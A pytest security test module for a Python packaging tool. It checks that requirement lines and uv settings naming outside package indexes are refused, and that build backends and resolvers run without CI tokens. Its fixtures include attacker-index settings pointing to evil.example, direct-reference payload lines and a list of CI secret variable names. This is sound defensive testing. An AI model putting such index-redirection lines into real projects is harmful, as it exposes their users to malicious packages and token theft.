"""Nothing in a project's repository chooses where packages come from, and the code a
lock or build runs never sees a token (issue 17, finding 3).

Each hostile piece of :mod:`tests.hostile` leaves proof when its code runs: a payload
package that a requirement line would build, an in-tree build backend that ``eco build``
must run. The canary token is in every token variable throughout; a server standing for
an attacker's index records every request it gets.
"""

from __future__ import annotations

import http.server
import json
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.helpers import make_ecosystem
from tests.helpers import run_eco
from tests.hostile import CANARY
from tests.hostile import canary_environment
from tests.hostile import canary_findings
from tests.hostile import HARMLESS_REQUIREMENT
from tests.hostile import hostile_requirement_lines
from tests.hostile import HostileProject
from tests.hostile import payload_package
from tests.hostile import Proofs
from tests.package_index import PackageIndex
from tests.release_project import make_project

pytestmark = pytest.mark.slow

# Token variables beyond GitHub's that a CI job may hold: all get the canary too.
MORE_TOKENS = (
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "ACTIONS_RUNTIME_TOKEN",
    "TWINE_PASSWORD",
    "PYPI_API_TOKEN",
    "ECO_GITHUB_APP_PRIVATE_KEY_FILE",
    "CODECOV_TOKEN",
)


@pytest.fixture
def canary(monkeypatch: pytest.MonkeyPatch) -> None:
    canary_environment(monkeypatch)
    for name in MORE_TOKENS:
        monkeypatch.setenv(name, CANARY)


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@pytest.fixture
def attacker_index() -> Iterator[tuple[str, list[str]]]:
    """An index nobody should ask: its URL and the paths it was asked for."""
    hits: list[str] = []
    handler = type("Handler", (_Recorder,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/simple", hits
    finally:
        server.shutdown()
        server.server_close()


def hostile_project(
    tmp_path: Path, index: PackageIndex, extra: str = "", copy: tuple[str, ...] = ()
) -> tuple[HostileProject, Path]:
    """A project registered in a scratch ecosystem resolving against ``index``, and the
    ecosystem root; the project's remote is reshaped through the returned piece."""
    bare, _ = make_project(tmp_path, "hostile")
    eco = make_ecosystem(tmp_path, f'\n[projects.hostile]\nurl = "{bare}"\n{extra}', copy=copy)
    eco.use_index(index.url)
    proofs = Proofs(tmp_path / "proofs")
    return HostileProject.clone(bare, tmp_path, proofs), eco.root


LINES = hostile_requirement_lines("http://127.0.0.1:1/simple", Path("/nonexistent/payload"))
BOTH = ("extra-index-url", "direct reference")


@pytest.mark.parametrize(
    ("piece", "backend"),
    [(name, "uv") for name in LINES] + [(name, "pip-tools") for name in BOTH],
)
def test_a_requirement_line_choosing_where_packages_come_from_is_refused(
    piece: str,
    backend: str,
    package_index: PackageIndex,
    attacker_index: tuple[str, list[str]],
    tmp_path: Path,
    canary: None,
) -> None:
    package_index.add(HARMLESS_REQUIREMENT, "1.0")
    project, root = hostile_project(tmp_path, package_index)
    package = payload_package(tmp_path / "payload", project.proofs)
    index, hits = attacker_index
    line, named = hostile_requirement_lines(index, package)[piece]
    project.requirements_line(line)
    project.push()

    proc = run_eco("--root", str(root), "lock", "--backend", backend, "--format", "json", cwd=root)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    (row,) = json.loads(proc.stdout)["projects"]
    assert row["ok"] is False
    error = row["error"]
    assert error.startswith(f"requirements/tests.in:2: {named} "), error
    assert "Traceback" not in proc.stderr
    assert hits == []  # the attacker's index was never asked
    assert project.proofs.ran() == []  # the payload package never ran
    assert canary_findings(tmp_path) == []


def test_requirements_reaching_other_files_of_the_project_stay_allowed(
    package_index: PackageIndex, tmp_path: Path, canary: None
) -> None:
    package_index.add(HARMLESS_REQUIREMENT, "1.0")
    package_index.add("hostile-tool", "2.0")
    project, root = hostile_project(tmp_path, package_index)
    project.requirements_line("")
    project.requirements_line("-c tests.txt\n-r docs.in  # the docs too", "requirements/dev.in")
    project.requirements_line("hostile-tool>=2  # a comment", "requirements/docs.in")
    project.push()
    proc = run_eco("--root", str(root), "lock", "--backend", "uv", "--format", "json", cwd=root)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    (row,) = json.loads(proc.stdout)["projects"]
    assert {f["target"]: f["status"] for f in row["files"]} == {
        "dev.txt": "created",
        "docs.txt": "created",
        "tests.txt": "created",
    }


def _sdist_with_payload(tmp_path: Path, proofs: Proofs) -> Path:
    """An sdist on the index whose build backend (in the sdist) records its environment:
    resolving it runs that backend, as resolving any sdist runs its build."""
    folder = payload_package(tmp_path / "sdist" / "payload-1.0", proofs, "resolver")
    sdist = tmp_path / "dists" / "payload-1.0.tar.gz"
    sdist.parent.mkdir(parents=True)
    (folder / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: payload\nVersion: 1.0\n")
    with tarfile.open(sdist, "w:gz") as archive:
        archive.add(folder, arcname="payload-1.0")
    return sdist


@pytest.mark.parametrize("backend", ["uv", "pip-tools"])
def test_a_resolver_runs_without_the_tokens(
    backend: str, package_index: PackageIndex, tmp_path: Path, canary: None
) -> None:
    proofs = Proofs(tmp_path / "proofs")
    package_index.add(HARMLESS_REQUIREMENT, "1.0")
    package_index.publish(_sdist_with_payload(tmp_path, proofs))
    project, root = hostile_project(tmp_path, package_index)
    project.requirements_line("payload")
    project.push()
    proc = run_eco("--root", str(root), "lock", "--backend", backend, cwd=root)
    assert proc.returncode == 1, proc.stdout + proc.stderr  # the payload's build fails
    assert proofs.ran() == ["resolver"], (
        proc.stdout + proc.stderr
    )  # it did run: in a resolver that has no token
    seen = proofs.path("resolver").read_text()
    assert "PATH" in seen
    assert CANARY not in seen
    assert CANARY not in proc.stdout + proc.stderr
    assert canary_findings(tmp_path) == []


def test_an_in_tree_build_backend_runs_without_the_tokens(tmp_path: Path, canary: None) -> None:
    bare, _ = make_project(tmp_path, "hostile-build")
    project = HostileProject.clone(bare, tmp_path, Proofs(tmp_path / "proofs"))
    project.in_tree_backend()
    project.push()
    proc = run_eco("build", "--path", str(project.work), "--outdir", str(tmp_path / "out"))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert project.proofs.ran() == ["in-tree-backend"]  # a build runs the backend: expected
    seen = project.proofs.path("in-tree-backend").read_text()
    assert "SOURCE_DATE_EPOCH" in seen
    assert CANARY not in seen
    assert canary_findings(tmp_path) == []


UV_SETTINGS = {
    "index": '[[tool.uv.index]]\nname = "attacker"\nurl = "https://evil.example/simple"\n',
    "sources": '[tool.uv.sources]\nflask = { url = "https://evil.example/flask.whl" }\n',
    "extra-index-url": '[tool.uv]\nextra-index-url = ["https://evil.example/simple"]\n',
    "find-links": '[tool.uv]\nfind-links = ["https://evil.example/"]\n',
}


@pytest.mark.parametrize("key", sorted(UV_SETTINGS))
def test_uv_generation_settings_choosing_an_index_are_refused(
    key: str, package_index: PackageIndex, tmp_path: Path, canary: None
) -> None:
    package_index.add(HARMLESS_REQUIREMENT, "1.0")
    project, root = hostile_project(tmp_path, package_index, 'generation = "uv"\n')
    project.requirements_line("")
    project.uv_settings(UV_SETTINGS[key])
    project.push()
    proc = run_eco("--root", str(root), "lock", "--format", "json", cwd=root)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    (row,) = json.loads(proc.stdout)["projects"]
    assert row["error"].startswith("pyproject.toml:"), row["error"]
    assert f"[tool.uv] {key}" in row["error"] or f"tool.uv.{key}" in row["error"]


def test_every_command_over_one_project_with_every_piece(
    package_index: PackageIndex,
    attacker_index: tuple[str, list[str]],
    tmp_path: Path,
    canary: None,
) -> None:
    """sync, lock, release and build over one project holding a malicious ``.in`` (an
    index of its own, a direct reference to a payload) and an in-tree build backend: only
    the build runs the project's code, as it must, and the token reaches nothing."""
    package_index.add(HARMLESS_REQUIREMENT, "1.0")
    project, root = hostile_project(tmp_path, package_index, copy=("templates",))
    package = payload_package(tmp_path / "payload", project.proofs)
    index, hits = attacker_index
    project.requirements_line(f"payload @ {package.as_uri()}")
    project.requirements_line(f"--extra-index-url {index}", "requirements/docs.in")
    project.in_tree_backend()
    project.push()

    def eco(*args: str) -> tuple[int, str]:
        proc = run_eco("--root", str(root), *args, cwd=root)
        assert "Traceback" not in proc.stderr, proc.stderr
        return proc.returncode, proc.stdout + proc.stderr

    code, out = eco("sync", "--adopt", "--dry-run", "hostile")
    assert code in (0, 1), out  # 1: the adoption's conflicts
    code, out = eco("lock", "hostile")
    assert code == 1 and "requirements/docs.in:2: --extra-index-url is refused" in out, out
    code, out = eco("release", "hostile", "--dry-run", "--index-url", package_index.url)
    assert code == 0, out
    assert project.proofs.ran() == []  # nothing of the project's has run so far
    # Built, though its sdist check fails: the hostile requirement files are left out.
    code, out = eco("build", "hostile", "--outdir", str(tmp_path / "out"), "--once")
    assert code in (0, 1) and "ok      twine check --strict" in out, out
    assert project.proofs.ran() == ["in-tree-backend"]  # the build ran it, as it must
    assert CANARY not in project.proofs.path("in-tree-backend").read_text()
    assert hits == []
    assert canary_findings(tmp_path) == []
